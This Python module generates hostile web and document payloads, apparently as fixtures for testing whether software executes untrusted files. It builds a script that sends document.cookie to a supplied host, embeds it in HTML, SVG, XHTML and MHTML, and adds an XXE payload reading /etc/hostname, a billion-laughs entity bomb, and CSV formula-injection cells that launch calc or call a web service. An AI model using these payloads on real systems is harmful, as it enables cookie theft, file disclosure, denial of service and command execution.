"""Web pages, scripts, drawings and tables, which a browser or another program would run."""

from __future__ import annotations

import zlib


def script(to: str) -> bytes:
    return (
        f"fetch('{to}/ran?'+document.cookie).catch(()=>0);new Image().src='{to}/image';document.title='taken';"
        f"try{{opener.location='{to}/opener'}}catch(e){{}};try{{top.location='{to}/top'}}catch(e){{}};alert('{to}')"
    ).encode()


def html(to: str) -> bytes:
    head = f"<!DOCTYPE html><title>Plan</title><base href='{to}/'><link rel=stylesheet href='{to}/style'>"
    body = f"<img src='{to}/img' onerror=\"document.title='taken'\"><iframe src='{to}/frame'></iframe>"
    away = f"<meta http-equiv=refresh content='0;{to}/'>"
    return f"{head}<script>{script(to).decode()}</script>{body}{away}".encode()


def xhtml(to: str) -> bytes:
    body = f"<script>{script(to).decode().replace('&', '&amp;').replace('=>', '=&gt;')}</script>"
    return f'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body>{body}</body></html>'.encode()


def svg(to: str) -> bytes:
    runs = f"<script>{script(to).decode().replace('=>', '=&gt;')}</script>"
    inside = f"{runs}<image href='{to}/svg'/><foreignObject><iframe src='{to}/frame'/></foreignObject>"
    return f'<svg xmlns="http://www.w3.org/2000/svg" onload="document.title=\'taken\'">{inside}</svg>'.encode()


def svgz(to: str) -> bytes:
    packed = zlib.compressobj(wbits=31)
    return packed.compress(svg(to)) + packed.flush()


def xml_with_style_sheet(to: str) -> bytes:
    return f'<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="{to}/page.xsl"?><plan/>'.encode()


def xml_with_entity(to: str) -> bytes:
    return (
        f'<?xml version="1.0"?><!DOCTYPE p [<!ENTITY x SYSTEM "file:///etc/hostname"><!ENTITY y SYSTEM "{to}/dtd">]><p>&x;&y;</p>'.encode()
    )


LAUGHS = '<!ENTITY l0 "ha">' + "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))


def billion_laughs(to: str) -> bytes:
    return f'<?xml version="1.0"?><!DOCTYPE p [{LAUGHS}]><p>&l9;</p>'.encode()


def mhtml(to: str) -> bytes:
    return (
        b"MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n"
        + html(to)
        + b"\r\n--b--"
    )


def formulas(to: str) -> bytes:
    cells = ("=cmd|' /C calc'!A0", f'"=HYPERLINK(""{to}"",""Open"")"', f'"=WEBSERVICE(""{to}"")"', "+1+1", "-2+3", "@SUM(1)", "\t=1+1")
    return b"goal,met\n" + "".join(f"reading,{cell}\n" for cell in cells).encode()
